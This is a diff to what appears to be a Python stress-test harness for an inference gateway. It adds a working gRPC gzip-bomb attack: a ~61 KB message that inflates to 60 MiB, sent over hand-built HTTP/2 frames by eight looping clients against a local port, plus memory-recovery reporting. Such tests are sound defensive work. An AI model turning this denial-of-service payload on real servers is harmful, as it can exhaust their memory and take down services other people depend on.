@@ -276,6 +276,58 @@ def grpc_empty_elements(g: Gateway, stop: threading.Event) -> None:
     stop.wait()
 
 
+GRPC_BOMB = gzip.compress(bytes(60 * MIB), 9)  # ~61 KB: fits HTTP/2's first 64 KiB window
+
+
+def h2_frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def hpack_literal(name: str, value: str) -> bytes:
+    """A header as HPACK's "literal without indexing, new name", no Huffman (lengths < 127)."""
+    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+
+
+def grpc_compressed_call(port: int, message: bytes) -> None:
+    """One ModelInfer call whose message is sent gzip-compressed as it is, over HTTP/2 written by hand
+    (grpcio would compress 60 MiB on the attacking side every time); waits for the call's end."""
+    headers = b"".join(hpack_literal(n, v) for n, v in [
+        (":method", "POST"), (":scheme", "http"), (":path", "/inference.GRPCInferenceService/ModelInfer"),
+        (":authority", "t"), ("content-type", "application/grpc"), ("grpc-encoding", "gzip"), ("te", "trailers")])
+    framed = b"\x01" + struct.pack(">I", len(message)) + message
+    with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
+        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, headers)
+                  + h2_frame(0, 1, 1, framed))
+        buffered = b""
+        while True:
+            while len(buffered) < 9 or len(buffered) < 9 + int.from_bytes(buffered[:3], "big"):
+                chunk = s.recv(65536)
+                if not chunk:
+                    return
+                buffered += chunk
+            length, kind, flags = int.from_bytes(buffered[:3], "big"), buffered[3], buffered[4]
+            buffered = buffered[9 + length:]
+            if kind == 4 and not flags & 1:
+                s.sendall(h2_frame(4, 1, 0, b""))  # SETTINGS ack
+            if (kind == 1 and flags & 1) or kind in (3, 7):  # trailers, RST_STREAM, GOAWAY
+                return
+
+
+def grpc_gzip_bombs(g: Gateway, stop: threading.Event) -> None:
+    """Finding 6: 8 clients in a loop, each sending a ~61 KB gzip gRPC message that inflates to 60 MiB."""
+    def bomb() -> None:
+        while not stop.is_set():
+            try:
+                grpc_compressed_call(g.grpc, GRPC_BOMB)
+            except OSError:
+                pass
+
+    threads = [threading.Thread(target=bomb, daemon=True) for _ in range(8)]
+    for t in threads:
+        t.start()
+    stop.wait()
+
+
 @dataclass
 class Attack:
     name: str
@@ -291,6 +343,7 @@ ATTACKS = [
     Attack("gzip bombs (48 x 80 MiB)", gzip_bombs, 10, False),
     Attack("unread 360 MB JSON responses (8)", unread_json_responses, 15, False),
     Attack("gRPC empty elements (4 x 60 MB)", grpc_empty_elements, 8, False),
+    Attack("gRPC gzip bombs (8 x 60 MiB)", grpc_gzip_bombs, 10, False),
 ]
 
 
@@ -304,6 +357,7 @@ class Row:
     errors: list[str]
     listeners: list[str]
     recovered_s: float | None
+    final_rss: int
     missed: list[str] = field(default_factory=list)
 
 
@@ -335,7 +389,7 @@ def run_attack(g: Gateway, attack: Attack, log_dir: Path) -> Row:
             recovered = time.monotonic() - start
             break
         time.sleep(0.25)
-    row = Row(attack.name, idle, sampler.peak, p99, len(lat), result["errors"], listeners, recovered)
+    row = Row(attack.name, idle, sampler.peak, p99, len(lat), result["errors"], listeners, recovered, rss(g.pid))
     if row.peak_rss >= RSS_GOAL:
         row.missed.append("RSS")
     if p99 >= P99_GOAL_MS:
@@ -396,7 +450,7 @@ def main() -> int:
     print("|---|---|---|---|---|---|---|---|---|")
     for r in rows:
         errors = f"{len(r.errors)}" + (f" ({r.errors[0]})" if r.errors else "")
-        back = f"{r.recovered_s:.1f} s" if r.recovered_s is not None else "no (30 s)"
+        back = f"{r.recovered_s:.1f} s" if r.recovered_s is not None else f"no ({mib(r.final_rss)} at 30 s)"
         print(f"| {r.attack} | {mib(r.idle_rss)} | {mib(r.peak_rss)} | {r.p99_ms:.1f} ms | {r.requests} | {errors} | "
               f"{'all accept' if not r.listeners else '; '.join(r.listeners)} | {back} | {', '.join(r.missed) or '-'} |")
     return 1 if any(r.missed for r in rows) else 0
